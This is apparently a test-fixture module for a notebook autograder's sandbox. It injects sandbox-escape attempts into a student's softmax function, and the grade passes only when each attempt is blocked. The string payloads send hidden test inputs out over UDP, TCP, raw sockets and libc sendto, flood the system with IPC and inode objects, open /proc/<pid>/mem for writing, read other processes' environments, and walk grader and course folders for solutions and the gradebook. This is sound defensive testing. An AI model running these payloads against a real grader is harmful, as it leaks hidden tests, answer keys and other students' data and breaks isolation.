"""Attacks on the jail's walls (issue 15, classes 3-5): inodes and IPC, the network,
Gradescope's files. Each is a correct notebook whose `softmax` also tries the attack
(once, the first time it is called) and whose `cross_entropy_error` then reports:
it returns the right loss only when the attack was tried AND got nothing through
(no byte sent, no inode or IPC object made, no byte of a closed file read);
otherwise -1.0. So the row's test_cross_entropy_error earning its points is the
wall holding, and cannot pass by the attack never running.

`cells(name, ports=..., root=...)` gives the notebook's overrides: `ports` is the
host listener's {host: (udp, tcp)} (listener.py), `root` Gradescope's root.
"""
import textwrap

from autograder.assignments.softmax.samples import reference_cells

# Each body runs inside softmax with `tried` and `got` counters; `x` is softmax's
# input (hidden test inputs, which a network attack sends off).
NETWORK = {
    # The socket module, UDP to every listener address, carrying the hidden inputs.
    "net-udp-hidden-inputs": r'''
import socket
for host, (udp, tcp) in PORTS.items():
    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
    tried += 1
    try:
        s = socket.socket(fam, socket.SOCK_DGRAM)
        s.sendto(repr(np.asarray(x).tolist()).encode()[:1200], (host, udp))
        got += 1
    except OSError:
        pass
''',
    # TCP through _socket directly, then raw IP, packet and netlink sockets.
    "net-raw-packet-netlink": r'''
import _socket, struct
host = "127.0.0.1" if "127.0.0.1" in PORTS else next(iter(PORTS))
udp, tcp = PORTS[host]
for fam, typ, proto, how in ((2, 1, 0, "tcp"), (2, 3, 17, "raw"), (17, 3, 0x0300, "packet"),
                             (16, 3, 0, "netlink"), (10, 2, 0, "udp6")):
    tried += 1
    try:
        s = _socket.socket(fam, typ, proto)
        got += 1
        if how == "tcp":
            s.connect((host, tcp)); s.send(b"H15" + repr(np.asarray(x).tolist()).encode())
        elif how == "raw":
            s.sendto(struct.pack("!HHHH", 40000, udp, 11, 0) + b"H15", (host, 0))
    except OSError:
        pass
''',
    # Past the socket module and its audit events: libc through ctypes.
    "net-libc-sendto": r'''
import ctypes, socket, struct
libc = ctypes.CDLL(None, use_errno=True)
host = "127.0.0.1" if "127.0.0.1" in PORTS else next(iter(PORTS))
udp, tcp = PORTS[host]
addr = struct.pack("=HH4s8x", 2, socket.htons(udp), socket.inet_aton("127.0.0.1"))
for fam, typ in ((2, 2), (2, 1), (2, 3), (10, 2), (17, 3), (16, 3), (1, 2)):
    tried += 1
    fd = libc.socket(fam, typ, 0)
    if fd >= 0:
        got += 1
        libc.sendto(fd, b"H15", 3, 0, addr, len(addr))
''',
}

INODES = {
    # Unix sockets bound to paths: an inode each, which a tmpfs size does not bound.
    "ipc-bind-unix-paths": r'''
import os, socket
where = [os.environ.get("TMPDIR", "/tmp"), "/tmp", "/var/tmp", "/dev/shm", os.getcwd()]
misses = 0
for i in range(20000):
    tried += 1
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.bind(os.path.join(where[i % len(where)], f"h15-{i}.sock"))
        got += 1
    except OSError:
        misses += 1
        if misses > 200:
            break
''',
    # POSIX message queues and System V shared memory, queues, semaphores (ctypes).
    "ipc-mqueue-and-sysv": r'''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
rt = libc if hasattr(libc, "mq_open") else ctypes.CDLL("librt.so.1", use_errno=True)
O_CREAT, O_RDWR = 0o100, 2
for i in range(50):
    tried += 1
    if rt.mq_open(f"/h15-{i}".encode(), O_CREAT | O_RDWR, 0o600, None) >= 0:
        got += 1
for make in (lambda: libc.shmget(0, 1 << 20, 0o1600), lambda: libc.msgget(0, 0o1600),
             lambda: libc.semget(0, 1, 0o1600)):
    tried += 1
    if make() >= 0:
        got += 1
''',
    # FIFOs, socket nodes, plain files, folders and links anywhere writable.
    "ipc-fifo-node-link": r'''
import os, stat
for where in ("/tmp", "/var/tmp", "/dev/shm", os.getcwd()):
    for make in (lambda p: os.mkfifo(p), lambda p: os.mknod(p, stat.S_IFSOCK | 0o600),
                 lambda p: open(p, "x").close(), lambda p: os.mkdir(p),
                 lambda p: os.symlink("/etc/passwd", p)):
        tried += 1
        try:
            make(os.path.join(where, f"h15-{tried}"))
            got += 1
        except OSError:
            pass
''',
}

# Another process of the jail that the filter does not bind (bubblewrap's pid-1 reaper
# was one, running as the student's uid): its memory written through /proc/<pid>/mem
# would run the student's code outside the allow-list. Both only look: a write puts
# back the very bytes that were read.
PROCS = {
    # Straight at the usual suspects (pid 1, 2, the parent): the bytes at the
    # instruction pointer /proc/<pid>/syscall names, read and written back.
    "proc-mem-write-back": r'''
import os
me = os.getpid()
for pid in {1, 2, os.getppid()} - {me, 0}:
    tried += 1
    try:
        fd = os.open(f"/proc/{pid}/mem", os.O_RDWR)
    except OSError:
        continue
    got += 1
    try:
        ip = int(open(f"/proc/{pid}/syscall").read().split()[-1], 16)
        os.pwrite(fd, os.pread(fd, 16, ip), ip)
    except (OSError, ValueError, IndexError):
        pass
    finally:
        os.close(fd)
''',
    # Every process /proc lists, through pathlib and io: its memory, environment,
    # descriptors and root.
    "proc-walk-every-pid": r'''
import os, pathlib
for d in pathlib.Path("/proc").iterdir():
    if not d.name.isdigit() or int(d.name) == os.getpid():
        continue
    for what, op in (("mem", lambda p: open(p, "r+b").close()),
                     ("environ", lambda p: p.read_bytes()),
                     ("fd", lambda p: list(p.iterdir())),
                     ("root", lambda p: list(p.iterdir()))):
        tried += 1
        try:
            op(d / what)
            got += 1
        except OSError:
            pass
tried = max(tried, 1)
''',
}

ROOT = {
    # Walk Gradescope's root (and the folders it is known to hold, should the root
    # not list) and open every file but the venv's.
    "root-walk-and-open": r'''
import os
tops = [GSROOT] + [os.path.join(GSROOT, d) for d in ("source", "submission", "results")]
for start in tops:
    tried += 1
    try:
        os.listdir(start)
        got += 1
    except OSError:
        pass
    for top, dirs, files in os.walk(start):
        dirs[:] = [d for d in dirs if os.path.join(top, d) != os.path.join(GSROOT, "venv")]
        for f in files:
            tried += 1
            try:
                open(os.path.join(top, f), "rb").read(1)
                got += 1
            except OSError:
                pass
''',
    # The files Gradescope keeps there, named, through pathlib and os.open.
    "root-named-files": r'''
import os, pathlib
for rel in ("submission_metadata.json", "submission/softmax.ipynb", "source/gradescope.toml",
            "source/autograder/assignments/softmax/reference.py", "run_autograder", "results"):
    p = pathlib.Path(GSROOT) / rel
    tried += 1
    try:
        if p.is_dir():
            os.listdir(p)
        else:
            os.close(os.open(p, os.O_RDONLY))
        got += 1
    except OSError:
        pass
''',
}

# The nbgrader course beside SUBMISSIONS when the grader is given its submitted/ folder
# (GSROOT is then the course root): the solutions, the gradebook, the other students.
COURSE = {
    # Named files, by absolute path.
    "course-named-files": r'''
import os
for rel in ("nbgrader_config.py", "gradebook.db", "source/softmax/softmax.ipynb",
            "submitted"):
    p = os.path.join(GSROOT, rel)
    tried += 1
    try:
        if os.path.isdir(p):
            os.listdir(p)
        else:
            with open(p, "rb") as f:
                f.read(1)
        got += 1
    except OSError:
        pass
''',
    # A walk from the course root, opening whatever it lists, through pathlib.
    "course-walk": r'''
import pathlib
tried += 1
try:
    for p in pathlib.Path(GSROOT).rglob("*"):
        tried += 1
        if p.is_file():
            p.read_bytes()
        got += 1
except OSError:
    pass
''',
}

ALL = {**NETWORK, **INODES, **PROCS, **ROOT, **COURSE}


def cells(name, *, ports=None, root=None):
    """{cell id: source}: the reference notebook with `name`'s attack in softmax."""
    ref = reference_cells()
    head = f"PORTS = {dict(ports or {})!r}\nGSROOT = {str(root)!r}\n"
    body = "tried, got = 0, 0\n" + head + textwrap.dedent(ALL[name]) + "softmax.wall = (tried, got)\n"
    attack = ("    if not hasattr(softmax, 'wall'):\n"
              "        try:\n" + textwrap.indent(body, " " * 12)
              + "        except Exception:\n"
              "            softmax.wall = (1, 1)\n")
    sm = ref["softmax"].replace("def softmax(x):\n", "def softmax(x):\n" + attack, 1)
    check = ("    tried, got = getattr(softmax, 'wall', (0, 0))\n"
             "    if tried == 0 or got:\n"
             "        return -1.0\n")
    ce = ref["cross_entropy_error"].replace(
        "def cross_entropy_error(y, t):\n", "def cross_entropy_error(y, t):\n" + check, 1)
    assert sm != ref["softmax"] and ce != ref["cross_entropy_error"]
    return {"softmax": sm, "cross_entropy_error": ce}
